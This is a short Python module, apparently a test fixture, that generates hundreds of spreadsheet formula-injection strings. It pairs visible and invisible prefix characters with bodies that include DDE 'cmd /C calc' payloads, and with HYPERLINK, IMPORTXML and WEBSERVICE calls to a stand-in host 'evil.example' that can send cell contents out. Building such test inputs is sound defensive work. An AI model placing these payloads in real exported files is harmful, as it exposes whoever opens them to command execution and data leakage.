"""More than two hundred texts a spreadsheet would run if it could, for names and references."""

_PLAIN_HEADS = ("=", "+", "-", "@", "\t=", "\r=", "=+", "-=", "@=", "+@")
# Behind a space or a sign nobody sees, and the wide forms some programs take for the same.
_SLY_HEADS = (" =", "\u00a0+", "\u200b=", "\ufeff@", "\uff1d", "\uff0b")
_SLIER_HEADS = ("\u202a=", "\u2066=", "\u00ad=", "\u061c=", "\u180e=", "\x01=", "\x08=", "\x7f=")
_BODIES = (
    "1+1",
    "1+1+cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example","open")',
    "SUM(A1:A9)",
    "cmd|' /C notepad'!'A1'",
    'IMPORTXML("https://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://evil.example/"&A1)',
    'A1&";"&B1',
    "A1,B1",
    "1\n2",
    "'quoted'",
    '"quoted"',
    "ЖШС «Жарық»",
    "+77015554512",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "10+20+cmd|' /C calc'!A0;x",
    'INDIRECT("A"&1)',
    " 1+1 ",
)
FORMULAS = tuple(
    head + body for head in (*_PLAIN_HEADS, *_SLY_HEADS, *_SLIER_HEADS) for body in _BODIES
)
